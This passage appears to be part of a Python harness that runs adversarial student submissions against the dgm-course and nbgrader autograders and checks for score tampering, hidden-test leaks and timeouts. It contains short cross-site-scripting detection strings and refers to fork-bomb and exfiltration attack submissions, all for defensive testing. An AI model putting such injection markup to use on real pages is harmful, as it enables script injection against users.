    groups = [students[i:i + chunk] for i in range(0, len(students), chunk)]
    with ThreadPoolExecutor(jobs) as pool:
        list(pool.map(run, groups))
        retry = [[s] for s in students if not done(s)]
        list(pool.map(run, retry))
    seconds = time.monotonic() - t0
    test_ids = {g for ids in zoo.tests.values() for g in ids}
    graded = Graded("plain nbgrader", _test_scores(course, zoo.assignment, test_ids), seconds, not_run=set(unsafe))
    for s in students:
        if not done(s):
            graded.notes[s] = "not graded (nbgrader error" + (" or time limit)" if s in timed_out else ")")
    for s, why in unsafe.items():
        graded.notes[s] = f"not run ({why})"
    return graded


# ----------------------------------------------------------------------------- checking the promise

@dataclasses.dataclass
class Verdict:
    """What one zoo showed: failures (the promise broken), known issues reproduced, and notes."""

    failures: list[str] = dataclasses.field(default_factory=list)
    known: list[str] = dataclasses.field(default_factory=list)
    notes: list[str] = dataclasses.field(default_factory=list)


def attacked_tests(zoo: Zoo, attack: Attack) -> set[str]:
    if attack.exercise == "*":
        return {g for ids in zoo.tests.values() for g in ids}
    target = attack.target_of(zoo.assignment)
    return set(zoo.tests.get(attack.exercise if attack.exercise != "target" else target.exercise, []))


def gained(zoo: Zoo, graded: Graded, student: str) -> dict[str, float]:
    """{test: points} a student earned beyond what it may (wrong-answer: beyond its control;
    abuse: nothing is ever beyond the honest student, so {}); lost() is the abuse check."""
    attack = zoo.attacks[student]
    got = graded.scores.get(student, {})
    if attack is None or attack.kind != "wrong-answer":
        return {}
    control = graded.scores.get(zoo.controls[attack.target_of(zoo.assignment).key], {})
    return {g: s for g, s in got.items() if s > control.get(g, 0.0)}


def lost(zoo: Zoo, graded: Graded, student: str) -> dict[str, float]:
    """{test: points} an abuse attack lost outside the exercise it attacks (or a bystander lost at all)."""
    attack = zoo.attacks[student]
    honest = graded.scores.get("honest", {})
    got = graded.scores.get(student, {})
    if attack is None:
        if student in zoo.controls.values():  # its wrong answer may cost what depends on it (03's FVSBN.sample...)
            return {}
        spared: set[str] = set()  # the honest student, a bystander
    elif attack.kind == "abuse":
        spared = attacked_tests(zoo, attack)
    else:
        return {}
    return {g: honest[g] - got.get(g, 0.0) for g in honest if g not in spared and got.get(g, 0.0) < honest[g]}


def check_dgm(zoo: Zoo, graded: Graded, course: Path, full_marks: float) -> Verdict:
    """The promise, for a zoo graded by dgm-course (see the module docstring)."""
    from dgm_course.feedback import visible_text
    from dgm_course.notebooks import BEGIN_HIDDEN, END_HIDDEN, iter_regions, secret_lines

    v = Verdict()
    missing = [s for s in zoo.students if s not in graded.scores and zoo.attacks[s] is None]
    missing += [s for s in zoo.students if s not in graded.notes]
    if missing:
        v.failures.append(f"not graded: {sorted(set(missing))}")
    honest = graded.scores.get("honest", {})
    if sum(honest.values()) != full_marks:
        v.failures.append(f"the honest student earned {sum(honest.values()):g} of {full_marks:g}: "
                          f"{ {g: s for g, s in honest.items()} }")
    for student in zoo.students:
        attack = zoo.attacks[student]
        problems = []
        if student not in graded.scores:
            problems.append("no grade")
        if gained(zoo, graded, student):
            problems.append(f"earned what its control does not: {gained(zoo, graded, student)}")
        if lost(zoo, graded, student):
            who = "a classmate" if attack is None else "beyond the exercise it attacks"
            problems.append(f"lost {who}: {lost(zoo, graded, student)} ({graded.notes.get(student, '')})")
        if "notebook time limit" in graded.notes.get(student, "") or "checker failed" in graded.notes.get(student, ""):
            problems.append(f"held its worker until the end: {graded.notes[student][:120]}")
        if not problems:
            continue
        message = f"{student}: " + "; ".join(problems)
        known = attack.known_issue if attack is not None else (
            BY_NAME["fork_bomb"].known_issue if student in zoo.bystanders else None)
        (v.known if known else v.failures).append(message + (f" [known issue: {known}]" if known else ""))
    for attack in (a for a in zoo.attacks.values() if a is not None and a.known_issue):
        if not any(m.startswith(attack.name + ":") or (attack.name == "fork_bomb" and m.startswith(BYSTANDER))
                   for m in v.known):
            v.notes.append(f"{attack.name}: known issue NOT reproduced this time ({attack.known_issue})")

    # Feedback: no hidden-test line, no raw markup a student wrote, no student text from a hidden test.
    source = read_notebook(course / "solutions" / zoo.assignment / f"{zoo.assignment}.ipynb")
    public = {line.strip() for c in source.cells for n, line, kind in iter_regions(c.source, BEGIN_HIDDEN, END_HIDDEN)
              if kind == "outside"}
    hidden = {h for h in secret_lines(source)["hidden"] if not any(h in p for p in public)}
    folder = course / "feedback"
    pages = sorted(folder.glob(f"*/{zoo.assignment}/*.html")) if folder.is_dir() else []
    without = set(zoo.students) - {p.parts[-3] for p in pages}
    if without:
        v.failures.append(f"no feedback for {sorted(without)}")
    for page in pages:
        html = page.read_text()
        text = visible_text(html)
        leaked = [line for line in hidden if line in text]
        if leaked:
            v.failures.append(f"{page.parts[-3]}: hidden-test lines in the feedback: {leaked[:3]}")
        if "<script>alert('zoo')" in html or "<img src=x onerror" in html:
            v.failures.append(f"{page.parts[-3]}: markup written by student code reached the feedback unescaped")
    nbgrader_pages = sorted((course / NBGRADER_FEEDBACK).glob(f"*/{zoo.assignment}/*.html"))
    leaks = {}
    for page in nbgrader_pages:
        found = [line for line in hidden if line in visible_text(page.read_text())]
        if found:
            leaks[page.parts[-3]] = found
    if leaks:
        v.failures.append(f"nbgrader generate_feedback on dgm-course's autograded notebooks shows hidden-test lines "
                          f"to {len(leaks)} of {len(nbgrader_pages)} students, e.g. {sorted(leaks)[:4]}: "
                          f"{next(iter(leaks.values()))[:2]}")
    else:
        v.notes.append(f"nbgrader generate_feedback ({len(nbgrader_pages)} pages): no hidden-test line")
    return v


def exfiltrated(course: Path, assignment: str) -> list[str]:
    """What the hidden_exfiltration student got into its feedback from hidden tests: the text after
    'A hidden test failed (' (class names and function names written by student code)."""
    import re

    from dgm_course.feedback import visible_text

    page = course / "feedback" / "hidden_exfiltration" / assignment / f"{assignment}.html"
    if not page.exists():
        return []
    pattern = r"A hidden test failed \(([^)]*)\)\.( Your code raised it in .*)?"
    return re.findall(pattern, visible_text(page.read_text()))


# ----------------------------------------------------------------------------- the table

def table(zoo: Zoo, dgm: Graded, plain: Graded | None) -> str:
    """Markdown: one row per submission: its points on the target's tests and in total, with plain
    nbgrader, with dgm-course, and (wrong-answer attacks) its control's."""
    total = lambda g, s: sum(g.scores.get(s, {}).values())  # noqa: E731

    def cell(g: Graded | None, student: str, tests: set[str] | None) -> str:
        if g is None:
            return "-"
        if student in g.not_run:
            return g.notes.get(student, "not run")
        if student not in g.scores:
            return "no grade"
        got = g.scores[student]
        part = sum(v for k, v in got.items() if tests is None or k in tests)
        return f"{part:g} / {total(g, student):g}"

    head = ["submission", "kind", "what it does", "plain nbgrader (target / total)", "dgm-course (target / total)",
            "control (dgm-course)", "dgm-course run"]
    lines = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
    for student in zoo.students:
        attack = zoo.attacks[student]
        target = (attack.target_of(zoo.assignment) if attack is not None else TARGETS[zoo.assignment])
        tests = set(zoo.tests.get(target.exercise, []))
        if attack is not None and attack.exercise == "*":
            tests = {g for ids in zoo.tests.values() for g in ids}
        control = zoo.controls.get(target.key) if attack is not None and attack.kind == "wrong-answer" else None
        kind = attack.kind if attack is not None else ("bystander" if student in zoo.bystanders else "reference")
        what = attack.description if attack is not None else {
            "honest": "the perfect submission", BYSTANDER: "honest, its code uses a thread"}.get(
            student, f"the wrong answer alone ({target.function} returns {target.wrong})")
        verdict = ""
        if attack is not None and (gained(zoo, dgm, student) or lost(zoo, dgm, student)):
            verdict = " **(beats dgm-course)**" if gained(zoo, dgm, student) else " **(costs too much)**"
        elif attack is None and lost(zoo, dgm, student):
            verdict = " **(harmed)**"
        lines.append("| " + " | ".join([
            student, kind, what.replace("|", "/"), cell(plain, student, tests),
            cell(dgm, student, tests) + verdict, cell(dgm, control, tests) if control else "",
            dgm.notes.get(student, "").replace("|", "/")[:90]]) + " |")
    return "\n".join(lines) + "\n"


# ----------------------------------------------------------------------------- one zoo, end to end

def make_course(folder: Path, assignment: str) -> Path:
    """A private scratch course with ``assignment`` released from this repository's solutions/."""
    from dgm_course.layout import make_scratch_course

    return make_scratch_course(folder, [assignment])


def full_marks(course: Path, assignment: str) -> float:
    """The autograded points of ``assignment``."""
    from dgm_course.notebooks import is_test_cell

    source = read_notebook(course / "solutions" / assignment / f"{assignment}.ipynb")
    return sum(float(nbgrader_meta(c)["points"]) for c in source.cells if is_test_cell(c))


@dataclasses.dataclass
class Run:
    """One zoo graded end to end: the submissions, both graders' results, the verdict and the table."""

    zoo: Zoo
    dgm: Graded
    plain: Graded | None
    verdict: Verdict
    table: str

    def report(self) -> str:
        """Markdown: timings, the table, known issues reproduced, notes and failures."""
        plain = f"; plain nbgrader: {self.plain.seconds:.0f} s (2 processes)" if self.plain else ""
        return (f"\n## {self.zoo.assignment}: {len(self.zoo.students)} submissions\n\n"
                f"dgm-course: {self.dgm.seconds:.0f} s (--jobs 2){plain}\n\n" + self.table
                + "".join(f"\n- FAILURE: {f}" for f in self.verdict.failures)
                + "".join(f"\n- KNOWN ISSUE reproduced: {k}" for k in self.verdict.known)
                + "".join(f"\n- note: {n}" for n in self.verdict.notes) + "\n")


def run(assignment: str, names: list[str], folder: str | os.PathLike, limits: dict, *, plain: bool = True,
        jobs: int = 2, log=print) -> Run:
    """Build the zoo of ``names`` on ``assignment`` in a scratch course under ``folder``, grade it
    with dgm-course (``limits``: dgm_course.records.Limits fields) and check the promise; then
    build it again in a second scratch course and grade it with plain nbgrader."""
    from dgm_course.records import Limits

    folder = Path(folder)
    course = make_course(folder / "dgm", assignment)
    made = build_zoo(course, assignment, names)
    dgm = grade_dgm(course, made, Limits(**limits), jobs=jobs, log=log)
    verdict = check_dgm(made, dgm, course, full_marks(course, assignment))
    leaks = exfiltrated(course, assignment) if "hidden_exfiltration" in names else []
    if leaks:
        verdict.notes.append("hidden_exfiltration: text written by student code is shown for failed hidden tests "
                             f"(the inputs it received): {[''.join(x)[:160] for x in leaks[:2]]}")
    plain_graded = None
    if plain:
        plain_course = make_course(folder / "plain", assignment)
        plain_graded = grade_plain(plain_course, build_zoo(plain_course, assignment, names), jobs=jobs)
    return Run(made, dgm, plain_graded, verdict, table(made, dgm, plain_graded))
